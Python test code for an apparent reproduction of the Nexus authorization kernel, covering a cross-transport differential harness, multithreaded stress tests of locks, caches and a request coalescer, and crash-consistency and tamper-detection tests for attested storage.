                                    wallet=wallet)

    def kernel_explain(self, operation, resource_name, proof=None,
                       wallet=False):
        """The kernel-side Figure 1 without the cache, as this subject.

        ``wallet=True`` searches the subject's own labelstore for a
        proof first, mirroring the service's wallet path.
        """
        kernel = self.world.kernel
        resource = kernel.resources.lookup(resource_name)
        bundle = proof
        if wallet and bundle is None:
            bundle = kernel_wallet_bundle(kernel, self.pid, operation,
                                          resource)
        return kernel.explain(self.pid, operation, resource.resource_id,
                              bundle)


class World:
    """Base class: one reachable kernel plus a name-normalization map."""

    kind = ""

    def __init__(self):
        self._tokens = {}
        self._admin = None

    @property
    def kernel(self):
        """The home kernel every scenario authorizes against."""
        return self.service.kernel

    def remember(self, raw, token):
        """Register a world-specific principal string for normalization."""
        if raw:
            self._tokens[raw] = f"«{token}»"

    def open(self, name):
        """A plain session on the home service (principal registered)."""
        session = self.client.open_session(name)
        self.remember(session.principal, f"id:{name}")
        return session

    def admin(self):
        """The world's resource-owning/administrative session."""
        if self._admin is None:
            self._admin = self.open("admin")
        return self._admin

    def install_iam(self, roles, bindings):
        """Install an IAM configuration through the admin session:
        put every role document (:class:`repro.iam.model.Role` or dict
        form), attach every ``(principal, role)`` binding, then compile
        and apply.  Returns the wire apply response."""
        admin = self.admin()
        for role in roles:
            admin.put_role(role)
        for principal, role in bindings:
            admin.bind_role(principal, role)
        return admin.iam_apply()

    def normalize(self, document) -> bytes:
        """Canonical bytes of ``document`` with every registered
        principal replaced by its stable token."""
        text = json.dumps(document, sort_keys=True)
        for raw in sorted(self._tokens, key=len, reverse=True):
            text = text.replace(raw, self._tokens[raw])
        return text.encode()


class DirectWorld(World):
    """Typed messages in-process — the zero-serialization baseline."""

    kind = "direct"

    def __init__(self):
        super().__init__()
        self.service = NexusService(NexusKernel(key_seed=HOME_SEED))
        self.client = NexusClient.in_process(self.service)

    def identity(self, name, statements):
        """A local subject: a fresh session that says its own
        credentials into its own labelstore."""
        session = self.open(name)
        for statement in statements:
            session.say(statement)
        return Identity(self, name, session.principal, session,
                        session.pid)


class HttpWorld(DirectWorld):
    """The same service behind canonical JSON + HTTP framing."""

    kind = "http"

    def __init__(self):
        World.__init__(self)
        self.service = NexusService(NexusKernel(key_seed=HOME_SEED))
        self.client = NexusClient.over_http(self.service)


class HttpBinaryWorld(DirectWorld):
    """The same service behind the length-prefixed binary codec.

    Every request is encoded as a binary frame, decoded by the
    service's binary entry point, and the response frame decoded back —
    so holding this world to the direct/http worlds' bytes proves the
    binary codec is a pure re-framing: same typed messages, same
    verdicts, nothing gained or lost relative to canonical JSON.
    """

    kind = "http-binary"

    def __init__(self):
        World.__init__(self)
        self.service = NexusService(NexusKernel(key_seed=HOME_SEED))
        self.client = NexusClient.over_binary(self.service)


class CrossKernelWorld(World):
    """Two federated kernels: credentials are minted remotely.

    Identities live on the *remote* kernel; their labels travel to the
    home kernel as a signed credential bundle through the federation
    endpoints, and the admitted local stand-in process is the acting
    subject.  Both legs run over the HTTP wire.
    """

    kind = "cross-kernel"

    def __init__(self):
        super().__init__()
        self.remote_service = NexusService(NexusKernel(key_seed=REMOTE_SEED))
        self.remote_client = NexusClient.over_http(self.remote_service)
        self.service = NexusService(NexusKernel(key_seed=HOME_SEED))
        self.client = NexusClient.over_http(self.service)
        self._peer_added = False

    def _ensure_peer(self):
        if not self._peer_added:
            identity = self.remote_client.info().platform
            self.admin().add_peer(PEER_ALIAS, identity["root_key"],
                                  platform=identity["platform"])
            self._peer_added = True

    def identity(self, name, statements):
        """A federated subject: say remotely, export, admit, adopt."""
        remote = self.remote_client.open_session(name)
        for statement in statements:
            remote.say(statement)
        exported = remote.export_credentials()
        self._ensure_peer()
        admission = self.admin().admit_remote(exported.bundle)
        receipt = self.kernel.federation.find(admission.digest)
        handle = self.service.open_session(name, pid=receipt.pid)
        session = self.client.adopt_session(handle)
        # Register only home-kernel names: the alias-qualified remote
        # principal (spoken in goals) and the admitted local stand-in.
        # The raw remote-side path lives in kernel A's namespace and
        # must never leak into home-kernel documents.
        self.remember(admission.remote_principal, f"id:{name}")
        self.remember(str(receipt.principal), f"id:{name}")
        return Identity(self, name, admission.remote_principal, session,
                        receipt.pid, subject=str(receipt.principal))


class ClusterWorld(World):
    """A forked worker fleet over one shared WAL, spoken to through a
    *follower*'s private address.

    Mutations forward to the writer process; reads are answered from
    the follower's replayed replica — so holding this world to the
    direct world's bytes proves the whole replication pipeline (WAL
    tail, epoch bus, session brokering, read-your-writes) adds nothing
    and loses nothing.  Scenarios must stay wire-only: the kernels live
    in other processes, so :attr:`World.kernel` (and
    :meth:`Identity.kernel_explain`) are unreachable here.
    """

    kind = "cluster"

    def __init__(self, workers=2, start_method="fork"):
        super().__init__()
        from repro.cluster import ClusterConfig, Supervisor
        self._directory = tempfile.mkdtemp(prefix="nexus-cluster-world-")
        self.supervisor = Supervisor(ClusterConfig(
            directory=self._directory, workers=workers,
            start_method=start_method, key_seed=HOME_SEED,
            heartbeat_interval=0.1))
        self.supervisor.start()
        # The last worker is always a follower; targeting its private
        # address pins every request to the replica path instead of
        # letting SO_REUSEPORT sometimes hand us the writer.
        host, port = self.supervisor.worker_address(workers - 1)
        self.client = NexusClient.connect(host, port)

    @property
    def kernel(self):
        raise RuntimeError("cluster worlds are wire-only: the kernels "
                           "live in forked worker processes")

    def identity(self, name, statements):
        """A subject whose session rides the follower→writer path."""
        session = self.open(name)
        for statement in statements:
            session.say(statement)
        return Identity(self, name, session.principal, session,
                        session.pid)

    def close(self):
        try:
            self.client.close()
        finally:
            self.supervisor.stop()
            shutil.rmtree(self._directory, ignore_errors=True)


def make_world(kind) -> World:
    """Build one world by kind name."""
    worlds = {"direct": DirectWorld, "http": HttpWorld,
              "http-binary": HttpBinaryWorld,
              "cross-kernel": CrossKernelWorld}
    return worlds[kind]()


def run_differential(scenario):
    """Run a scenario in every world and hold them to one answer.

    ``scenario(world)`` must return a JSON-safe document of everything
    observable (verdicts, explanations, counters).  Asserts the direct,
    http and http-binary documents are equal *raw* (byte-identical
    decoded wire behaviour across both codecs) and all worlds are equal
    after principal normalization; returns the direct document for
    further scenario-specific assertions.
    """
    documents = {}
    normalized = {}
    for kind in WORLD_KINDS:
        world = make_world(kind)
        document = scenario(world)
        documents[kind] = document
        normalized[kind] = world.normalize(document)
    assert documents["direct"] == documents["http"], (
        "direct and http transports disagree")
    assert documents["direct"] == documents["http-binary"], (
        "the binary codec changed decoded wire behaviour")
    assert normalized["direct"] == normalized["http"] == \
        normalized["http-binary"] == normalized["cross-kernel"], \
        "cross-kernel path disagrees"
    return documents["direct"]


def run_cluster_differential(scenario, workers=2, start_method="fork"):
    """Run a wire-only scenario in-process and against a forked fleet.

    The cluster world speaks to a *follower*, so every observable in
    the scenario's document crossed fork, WAL replay and forwarding —
    and must still be **byte-identical** to the direct world (same
    ``key_seed``, same pid allocation order, same principal strings).
    Returns the direct document.
    """
    direct = scenario(make_world("direct"))
    world = ClusterWorld(workers=workers, start_method=start_method)
    try:
        clustered = scenario(world)
    finally:
        world.close()
    assert direct == clustered, (
        "forked cluster disagrees with the in-process kernel")
    return direct
