"""Concurrency safety for the serving runtime.

The serving PR made the kernel multi-caller: authorization is a read,
policy mutation is a write, labelstores and the decision cache carry
their own locks.  These tests hammer those paths from many threads and
hold the runtime to three properties:

* **no lost updates** — every thread's mutations land (session counts,
  label insertions, counter totals add up exactly);
* **replay equivalence** — verdicts produced under concurrency equal a
  single-threaded replay of the same requests against the same final
  policy state (mutators and readers touch disjoint resources, so the
  expected verdicts are deterministic);
* **counter consistency** — ``DecisionCache.snapshot()`` totals balance
  (hits + misses equals probes issued; insertions never exceed misses).

Everything is seeded; thread interleavings vary, but every asserted
quantity is interleaving-independent by construction.
"""

import random
import sys
import threading
import time

import pytest

from repro.errors import AccessDenied
from repro.kernel.kernel import NexusKernel
from repro.kernel.sync import RWLock
from repro.nal.proof import Assume, ProofBundle

THREADS = 8
OPS = 120
SEED = 20260726


def _spawn(count, target):
    """Run ``count`` copies of target(index) to completion, re-raising
    the first worker exception in the main thread."""
    errors = []

    def wrapped(index):
        try:
            target(index)
        except BaseException as exc:  # noqa: BLE001 — reported below
            errors.append(exc)

    threads = [threading.Thread(target=wrapped, args=(index,))
               for index in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if errors:
        raise errors[0]


class TestRWLock:
    def test_readers_share_writers_exclude(self):
        lock = RWLock()
        active = []
        peak = []

        def reader(_index):
            with lock.read_locked():
                active.append(1)
                peak.append(len(active))
                active.pop()

        _spawn(4, reader)
        # At least the bookkeeping survived; exclusivity is asserted via
        # the writer test below (readers genuinely overlapping is
        # scheduler-dependent, so no assertion on peak here).
        assert not active

    def test_writer_is_exclusive_against_writers(self):
        lock = RWLock()
        value = {"n": 0}

        def writer(_index):
            for _ in range(200):
                with lock.write_locked():
                    # Lost updates would show as a short final count.
                    current = value["n"]
                    value["n"] = current + 1

        _spawn(THREADS, writer)
        assert value["n"] == THREADS * 200

    def test_write_reentrancy_and_write_implies_read(self):
        lock = RWLock()
        with lock.write_locked():
            with lock.write_locked():
                with lock.read_locked():
                    pass
        # Fully released: another thread can take the write lock.
        acquired = []

        def prober(_index):
            with lock.write_locked():
                acquired.append(True)

        _spawn(1, prober)
        assert acquired == [True]

    def test_read_to_write_upgrade_is_refused(self):
        lock = RWLock()
        with lock.read_locked():
            with pytest.raises(RuntimeError):
                lock.acquire_write()


class TestKernelStress:
    """N threads hammering authorize/setgoal/apply_policy/revoke."""

    def _world(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        readers = [kernel.create_process(f"reader{i}")
                   for i in range(THREADS)]
        # Read-side resources: goals set once, never mutated during the
        # run, so concurrent verdicts are deterministic.
        stable = kernel.resources.create("/stress/stable", "file",
                                         owner.principal)
        kernel.sys_setgoal(owner.pid, stable.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        bundles = {}
        for reader in readers:
            cred = kernel.sys_say(owner.pid, f"ok({reader.path})").formula
            bundles[reader.pid] = ProofBundle(Assume(cred),
                                              credentials=(cred,))
        # Write-side resources: mutators churn goals here, disjoint
        # from what the readers authorize against.
        churn = [kernel.resources.create(f"/stress/churn{i}", "file",
                                         owner.principal)
                 for i in range(4)]
        return kernel, owner, readers, stable, bundles, churn

    def test_verdicts_match_single_threaded_replay(self):
        kernel, owner, readers, stable, bundles, churn = self._world()
        rng = random.Random(SEED)
        plans = {reader.pid: [rng.random() < 0.5 for _ in range(OPS)]
                 for reader in readers}
        verdicts = {reader.pid: [] for reader in readers}

        def work(index):
            reader = readers[index]
            bundle = bundles[reader.pid]
            thread_rng = random.Random(SEED + index)
            for present_proof in plans[reader.pid]:
                if thread_rng.random() < 0.15:
                    # Mutator traffic on the disjoint churn resources:
                    # setgoal / cleargoal / apply_policy under write
                    # locks, interleaved with everyone's reads.
                    target = churn[index % len(churn)]
                    kernel.apply_policy(owner.pid, [
                        (target.resource_id, "write",
                         f"{owner.path} says churn(?Subject)", None),
                        (target.resource_id, "write", None, None),
                    ])
                decision = kernel.authorize(
                    reader.pid, "read", stable.resource_id,
                    bundles[reader.pid] if present_proof else None)
                verdicts[reader.pid].append(decision.allow)

        _spawn(THREADS, work)

        # Single-threaded replay: same subjects, same proof plans, same
        # (unchanged) goal on the stable resource.
        replay = NexusKernel()
        r_owner = replay.create_process("owner")
        r_readers = [replay.create_process(f"reader{i}")
                     for i in range(THREADS)]
        r_stable = replay.resources.create("/stress/stable", "file",
                                           r_owner.principal)
        replay.sys_setgoal(r_owner.pid, r_stable.resource_id, "read",
                           f"{r_owner.path} says ok(?Subject)")
        for reader, r_reader in zip(readers, r_readers):
            cred = replay.sys_say(r_owner.pid,
                                  f"ok({r_reader.path})").formula
            r_bundle = ProofBundle(Assume(cred), credentials=(cred,))
            expected = [
                replay.authorize(r_reader.pid, "read",
                                 r_stable.resource_id,
                                 r_bundle if present else None).allow
                for present in plans[reader.pid]]
            assert verdicts[reader.pid] == expected

    def test_cache_counters_balance_under_contention(self):
        kernel, owner, readers, stable, bundles, _churn = self._world()
        cache = kernel.decision_cache
        base = cache.snapshot()
        probes = THREADS * OPS

        def work(index):
            reader = readers[index]
            bundle = bundles[reader.pid]
            for _ in range(OPS):
                assert kernel.authorize(reader.pid, "read",
                                        stable.resource_id, bundle).allow

        _spawn(THREADS, work)
        snap = cache.snapshot()
        hits = snap["hits"] - base["hits"]
        misses = snap["misses"] - base["misses"]
        inserts = snap["insertions"] - base["insertions"]
        # Every authorize issues exactly one probe; a racy counter would
        # lose increments and break the exact balance.
        assert hits + misses == probes
        # Every miss is followed by at most one insertion (cacheable
        # verdicts), and insertions only happen after misses.
        assert inserts <= misses
        # Steady state: each reader misses once, then hits.
        assert misses <= THREADS * 2

    def test_revocation_storm_never_breaks_verdicts(self):
        """Concurrent policy-epoch bumps (revocations) interleaved with
        authorization never produce a wrong verdict — only extra cache
        misses."""
        kernel, owner, readers, stable, bundles, _churn = self._world()
        stop = threading.Event()

        def revoker():
            while not stop.is_set():
                kernel.decision_cache.bump_policy_epoch()

        storm = threading.Thread(target=revoker)
        storm.start()
        try:
            def work(index):
                reader = readers[index]
                bundle = bundles[reader.pid]
                for _ in range(OPS):
                    assert kernel.authorize(
                        reader.pid, "read", stable.resource_id,
                        bundle).allow
                    denied = kernel.authorize(reader.pid, "read",
                                              stable.resource_id, None)
                    assert not denied.allow

            _spawn(THREADS, work)
        finally:
            stop.set()
            storm.join()
        snap = kernel.decision_cache.snapshot()
        assert snap["policy_epoch"] == snap["policy_epoch_bumps"]

    def test_concurrent_setgoal_denied_for_non_owner(self):
        """Writers that should be denied stay denied under contention
        (no privilege leaks through racy goal state)."""
        kernel, owner, readers, stable, bundles, churn = self._world()

        def work(index):
            reader = readers[index]
            for _ in range(20):
                with pytest.raises(AccessDenied):
                    kernel.sys_setgoal(reader.pid,
                                       churn[0].resource_id, "write",
                                       "true")

        _spawn(THREADS, work)


class TestServiceSessionStress:
    def test_concurrent_sessions_no_lost_state(self):
        from repro.api import NexusClient, NexusService
        service = NexusService()
        client = NexusClient.in_process(service)
        sessions = {}

        def work(index):
            session = client.open_session(f"worker-{index}")
            for i in range(30):
                session.say(f"fact{index}(v{i})")
            sessions[index] = session

        _spawn(THREADS, work)
        assert len(sessions) == THREADS
        pids = {session.pid for session in sessions.values()}
        assert len(pids) == THREADS  # no pid was double-allocated
        for index, session in sessions.items():
            stats = session.stats()
            assert stats.requests["say"] == 30
            store = service.kernel.default_labelstore(session.pid)
            assert len(store) == 30

    def test_coalescer_matches_uncoalesced_verdicts(self):
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        readers = [kernel.create_process(f"r{i}") for i in range(THREADS)]
        resource = kernel.resources.create("/coal/obj", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        bundles = {}
        for reader in readers[: THREADS // 2]:  # half get credentials
            cred = kernel.sys_say(owner.pid, f"ok({reader.path})").formula
            bundles[reader.pid] = ProofBundle(Assume(cred),
                                              credentials=(cred,))
        coalescer = CoalescingAuthorizer(kernel)
        results = {}

        def work(index):
            reader = readers[index]
            bundle = bundles.get(reader.pid)
            results[index] = [
                coalescer.authorize(reader.pid, "read",
                                    resource.resource_id, bundle).allow
                for _ in range(OPS)]

        _spawn(THREADS, work)
        for index, reader in enumerate(readers):
            expected = reader.pid in bundles
            assert results[index] == [expected] * OPS
        stats = coalescer.stats()
        assert stats["calls"] == THREADS * OPS
        assert stats["batches"] >= 1

    def test_coalescer_isolates_a_poisoned_batchmate(self):
        """One request naming a dead pid must not contaminate the
        verdicts of the requests batched with it."""
        from repro.errors import NoSuchProcess
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        ghost = kernel.create_process("ghost")
        kernel.exit_process(ghost.pid)
        resource = kernel.resources.create("/coal/poison", "file",
                                           owner.principal)
        coalescer = CoalescingAuthorizer(kernel)
        outcomes = {}

        def work(index):
            pid = ghost.pid if index == 0 else owner.pid
            for _ in range(40):
                try:
                    outcomes[index] = coalescer.authorize(
                        pid, "read", resource.resource_id).allow
                except NoSuchProcess:
                    outcomes[index] = "raised"

        _spawn(4, work)
        assert outcomes[0] == "raised"  # the bad request still fails
        for index in range(1, 4):
            assert outcomes[index] is True  # batchmates keep verdicts

    def test_coalescer_stats_snapshots_are_consistent(self):
        """Regression (this PR's bugfix): ``stats()`` used to read the
        counters without the lock, so a snapshot taken mid-batch could
        tear — ``calls`` from before a burst, ``coalesced`` from after
        it — and report impossibilities like
        ``coalesced > calls - batches``.  Snapshots are now taken under
        ``_cond``, so every one satisfies the conservation law: each
        completed batch of size n contributes n to ``calls``, 1 to
        ``batches`` and at most n-1 to ``coalesced``, and bypasses
        contribute to ``calls`` and ``bypassed`` only."""
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        readers = [kernel.create_process(f"s{i}") for i in range(THREADS)]
        resource = kernel.resources.create("/coal/snap", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        coalescer = CoalescingAuthorizer(kernel)
        stop = threading.Event()
        violations = []
        # Shrink the GIL quantum so the snapshot reads interleave with
        # counter updates aggressively — pre-fix, this tears a snapshot
        # within milliseconds instead of needing a lucky preemption.
        switch_interval = sys.getswitchinterval()
        sys.setswitchinterval(1e-4)

        def snapshotter():
            # .get: the pre-fix stats had no bypass counter — the laws
            # below must fail there for the torn read, not a KeyError.
            while not stop.is_set():
                stats = coalescer.stats()
                bypassed = stats.get("bypassed", 0)
                budget = stats["calls"] - bypassed - stats["batches"]
                if stats["coalesced"] > budget:
                    violations.append(("conservation", stats))
                    return
                # Internal consistency: the derived mean must be
                # computed from the *same* counter values the snapshot
                # reports — a torn read shows as a mean built from a
                # fresher calls count than the one in the dict.
                expected = round((stats["calls"] - bypassed)
                                 / (stats["batches"] or 1), 3)
                if stats["mean_batch"] != expected:
                    violations.append(("mean", stats))
                    return

        watcher = threading.Thread(target=snapshotter)
        watcher.start()
        try:
            def work(index):
                reader = readers[index]
                for _ in range(OPS):
                    coalescer.authorize(reader.pid, "read",
                                        resource.resource_id, None)

            _spawn(THREADS, work)
        finally:
            stop.set()
            watcher.join()
            sys.setswitchinterval(switch_interval)
        assert not violations, f"torn stats snapshot: {violations[0]}"
        final = coalescer.stats()
        assert final["calls"] == THREADS * OPS
        assert (final["coalesced"] <= final["calls"]
                - final.get("bypassed", 0) - final["batches"])

    def test_stats_never_reads_a_half_applied_update(self):
        """The deterministic face of the same bug: a leader updates the
        counters *under* ``_cond``, so a snapshot taken while that
        update is half-applied must wait for the lock, not return the
        inconsistent intermediate state (pre-fix, ``stats()`` read the
        fields lockless and happily reported ``coalesced > calls``)."""
        from repro.net.coalesce import CoalescingAuthorizer
        coalescer = CoalescingAuthorizer(NexusKernel())
        coalescer._cond.acquire()
        try:
            # A writer mid-batch: calls not yet counted up to the
            # coalesced total it is about to publish.
            coalescer.calls = 10
            coalescer.batches = 1
            coalescer.coalesced = 50
            snapshots = []
            reader = threading.Thread(
                target=lambda: snapshots.append(coalescer.stats()))
            reader.start()
            reader.join(timeout=0.3)
            blocked = reader.is_alive()
            # The "batch" completes: the counters are consistent again.
            coalescer.calls = 60
            coalescer.coalesced = 50
        finally:
            coalescer._cond.release()
        reader.join(timeout=5.0)
        assert not reader.is_alive()
        assert blocked, "stats() read the counters without the lock"
        assert snapshots[0]["calls"] == 60
        assert snapshots[0]["coalesced"] == 50


class _MeteredKernel:
    """A kernel stand-in with a dialable per-request guard cost —
    deterministic raw material for the adaptive-coalescing tests."""

    def __init__(self, delay_s: float = 0.0):
        self.delay_s = delay_s
        self.single_calls = 0
        self.batch_calls = 0

    def _work(self):
        if self.delay_s:
            time.sleep(self.delay_s)
        return True

    def authorize(self, _pid, _operation, _resource_id, _bundle=None):
        self.single_calls += 1
        return self._work()

    def authorize_many(self, requests):
        self.batch_calls += 1
        return [self._work() for _ in requests]


class TestAdaptiveCoalescing:
    def test_cheap_route_bypasses_group_commit(self):
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = _MeteredKernel(delay_s=0.0)  # a decision-cache hit
        coalescer = CoalescingAuthorizer(kernel, latency_price_us=100.0)
        for _ in range(50):
            assert coalescer.authorize(1, "read", 7) is True
        stats = coalescer.stats()
        # The first call pays the batch path (no cost estimate yet);
        # once the route measures far below the latency price, serial
        # cheap traffic goes straight to the kernel.
        assert stats["bypassed"] >= 40
        assert stats["calls"] == 50
        assert stats["routes"] == 1

    def test_expensive_route_stays_on_group_commit(self):
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = _MeteredKernel(delay_s=0.0005)  # a real guard proof
        coalescer = CoalescingAuthorizer(kernel, latency_price_us=100.0)
        for _ in range(30):
            assert coalescer.authorize(1, "read", 7) is True
        stats = coalescer.stats()
        assert stats["bypassed"] == 0  # 500µs never beats the price
        assert stats["batches"] == 30  # serial → singleton batches

    def test_route_that_turns_expensive_swings_back_to_batching(self):
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = _MeteredKernel(delay_s=0.0)
        coalescer = CoalescingAuthorizer(kernel, latency_price_us=100.0)
        for _ in range(20):
            coalescer.authorize(1, "read", 7)
        assert coalescer.stats()["bypassed"] > 0
        # A policy change makes the route's guard genuinely slow; the
        # bypass path keeps measuring, so the EWMA climbs back over
        # the price and traffic returns to group commit.
        kernel.delay_s = 0.0005
        before = coalescer.stats()["batches"]
        for _ in range(20):
            coalescer.authorize(1, "read", 7)
        after = coalescer.stats()
        assert after["batches"] > before
        # Only the few EWMA-lag calls right after the flip still
        # bypassed; the rest of the slow traffic batched.
        assert after["bypassed"] <= 25

    def test_adaptive_off_batches_everything(self):
        from repro.net.coalesce import CoalescingAuthorizer
        kernel = _MeteredKernel(delay_s=0.0)
        coalescer = CoalescingAuthorizer(kernel, adaptive=False)
        for _ in range(25):
            coalescer.authorize(1, "read", 7)
        stats = coalescer.stats()
        assert stats["bypassed"] == 0
        assert stats["batches"] == 25

    def test_transfer_is_atomic_under_racing_threads(self):
        """A label can end up in exactly one store, never two, when
        transfers race."""
        from repro.errors import NoSuchResource
        kernel = NexusKernel()
        source_proc = kernel.create_process("src")
        source = kernel.default_labelstore(source_proc.pid)
        targets = [kernel.labels.create_store(source_proc.pid)
                   for _ in range(4)]
        label = source.insert(source_proc.principal, "fact(x)")
        winners = []

        def work(index):
            try:
                winners.append(source.transfer(label.handle,
                                               targets[index]))
            except NoSuchResource:
                pass

        _spawn(4, work)
        assert len(winners) == 1
        assert sum(len(store) for store in targets) == 1
        assert len(source) == 0
