"""Attested storage tests: Merkle trees, VDIR crash consistency, VKEYs, SSRs.

The crash-consistency properties here are the heart of §3.3: a power
failure at *any* point of the four-step flush recovers to exactly the old
or the new state, and offline tampering or replay aborts the boot.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.crypto.hashes import sha1
from repro.errors import (
    BootError,
    CrashError,
    CryptoError,
    IntegrityError,
    NoSuchResource,
    ReplayError,
    StorageError,
)
from repro.storage import (
    Disk,
    MerkleTree,
    SecureStorageRegion,
    STATE_CURRENT,
    STATE_NEW,
    VDIRRegistry,
    VKeyManager,
)
from repro.tpm import TPM


@pytest.fixture
def disk():
    return Disk()


@pytest.fixture
def tpm():
    device = TPM(seed=3)
    device.take_ownership(seed=4)
    return device


@pytest.fixture
def vdirs(disk, tpm):
    registry = VDIRRegistry(disk, tpm)
    registry.format()
    return registry


class TestDisk:
    def test_roundtrip(self, disk):
        disk.write_file("f", b"data")
        assert disk.read_file("f") == b"data"

    def test_missing_file(self, disk):
        with pytest.raises(NoSuchResource):
            disk.read_file("nope")

    def test_crash_before(self, disk):
        disk.write_file("f", b"old")
        disk.schedule_crash(after_writes=0, mode="before")
        with pytest.raises(CrashError):
            disk.write_file("f", b"new")
        assert disk.read_file("f") == b"old"

    def test_crash_torn(self, disk):
        disk.schedule_crash(after_writes=0, mode="torn")
        with pytest.raises(CrashError):
            disk.write_file("f", b"0123456789")
        assert disk.read_file("f") == b"01234"

    def test_crash_after(self, disk):
        disk.schedule_crash(after_writes=0, mode="after")
        with pytest.raises(CrashError):
            disk.write_file("f", b"new")
        assert disk.read_file("f") == b"new"

    def test_crash_counts_down(self, disk):
        disk.schedule_crash(after_writes=2)
        disk.write_file("a", b"1")
        disk.write_file("b", b"2")
        with pytest.raises(CrashError):
            disk.write_file("c", b"3")

    def test_snapshot_restore(self, disk):
        disk.write_file("f", b"v1")
        image = disk.snapshot()
        disk.write_file("f", b"v2")
        disk.restore(image)
        assert disk.read_file("f") == b"v1"


class TestMerkle:
    def test_root_changes_with_content(self):
        t1 = MerkleTree([b"a", b"b"])
        t2 = MerkleTree([b"a", b"c"])
        assert t1.root() != t2.root()

    def test_update_matches_rebuild(self):
        blocks = [b"a", b"b", b"c", b"d", b"e"]
        tree = MerkleTree(blocks)
        tree.update(2, b"C")
        rebuilt = MerkleTree([b"a", b"b", b"C", b"d", b"e"])
        assert tree.root() == rebuilt.root()

    def test_proof_verifies(self):
        blocks = [bytes([i]) for i in range(7)]
        tree = MerkleTree(blocks)
        for index, block in enumerate(blocks):
            MerkleTree.verify_proof(tree.root(), block, tree.proof(index))

    def test_proof_rejects_wrong_block(self):
        tree = MerkleTree([b"a", b"b", b"c", b"d"])
        with pytest.raises(IntegrityError):
            MerkleTree.verify_proof(tree.root(), b"X", tree.proof(1))

    def test_verify_block_detects_tamper(self):
        tree = MerkleTree([b"a", b"b"])
        tree.verify_block(0, b"a")
        with pytest.raises(IntegrityError):
            tree.verify_block(0, b"z")

    def test_leaf_inner_domain_separation(self):
        # A single-leaf tree's root must differ from its leaf hash input.
        tree = MerkleTree([b"a"], min_leaves=2)
        assert tree.root() != tree.leaf(0)

    def test_index_bounds(self):
        tree = MerkleTree([b"a", b"b"])
        with pytest.raises(IntegrityError):
            tree.update(5, b"x")

    @given(st.lists(st.binary(min_size=0, max_size=20), min_size=1,
                    max_size=16),
           st.integers(min_value=0, max_value=15),
           st.binary(min_size=0, max_size=20))
    @settings(max_examples=100, deadline=None)
    def test_update_equals_rebuild_property(self, blocks, index, new_block):
        index %= len(blocks)
        tree = MerkleTree(blocks)
        tree.update(index, new_block)
        expected = list(blocks)
        expected[index] = new_block
        assert tree.root() == MerkleTree(expected).root()


class TestVDIRProtocol:
    def test_create_write_read(self, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\xab" * 32)
        assert vdirs.read(vdir_id) == b"\xab" * 32

    def test_destroy(self, vdirs):
        vdir_id = vdirs.create()
        vdirs.destroy(vdir_id)
        with pytest.raises(NoSuchResource):
            vdirs.read(vdir_id)

    def test_recover_clean(self, disk, tpm, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x01" * 32)
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) == b"\x01" * 32

    @pytest.mark.parametrize("crash_step", [0, 1])  # which disk write dies
    @pytest.mark.parametrize("mode", ["before", "torn", "after"])
    def test_crash_during_flush_recovers_old_or_new(
            self, disk, tpm, vdirs, crash_step, mode):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x0a" * 32)
        old, new = b"\x0a" * 32, b"\x0b" * 32
        # The flush performs exactly two disk writes (steps 1 and 4).
        disk.schedule_crash(after_writes=crash_step, mode=mode)
        with pytest.raises(CrashError):
            vdirs.write(vdir_id, new)
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) in (old, new)

    def test_crash_after_commit_point_recovers_new(self, disk, tpm, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x0a" * 32)
        # Crash on the *second* disk write (step 4) leaves DIRs committed:
        # recovery must choose the new state.
        disk.schedule_crash(after_writes=1, mode="before")
        with pytest.raises(CrashError):
            vdirs.write(vdir_id, b"\x0b" * 32)
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) == b"\x0b" * 32

    def test_crash_before_any_dir_write_recovers_old(self, disk, tpm, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x0a" * 32)
        disk.schedule_crash(after_writes=0, mode="before")
        with pytest.raises(CrashError):
            vdirs.write(vdir_id, b"\x0b" * 32)
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) == b"\x0a" * 32

    def test_tampered_state_files_abort_boot(self, disk, tpm, vdirs):
        vdirs.create()
        disk.corrupt_file(STATE_CURRENT)
        disk.corrupt_file(STATE_NEW)
        with pytest.raises(BootError):
            VDIRRegistry.recover(disk, tpm)

    def test_replayed_disk_image_aborts_boot(self, disk, tpm, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x01" * 32)
        image = disk.snapshot()  # attacker copies the disk
        vdirs.write(vdir_id, b"\x02" * 32)
        disk.restore(image)  # ... and replays it while dormant
        with pytest.raises(BootError):
            VDIRRegistry.recover(disk, tpm)

    def test_single_corruption_falls_back_to_other_file(self, disk, tpm, vdirs):
        vdir_id = vdirs.create()
        vdirs.write(vdir_id, b"\x03" * 32)
        disk.corrupt_file(STATE_NEW)
        recovered = VDIRRegistry.recover(disk, tpm)
        assert recovered.read(vdir_id) == b"\x03" * 32

    @given(st.integers(min_value=0, max_value=1),
           st.sampled_from(["before", "torn", "after"]),
           st.lists(st.binary(min_size=32, max_size=32), min_size=1,
                    max_size=4))
    @settings(max_examples=40, deadline=None)
    def test_crash_consistency_property(self, crash_step, mode, values):
        """Any crash point, any write schedule: recovery is old-or-new,
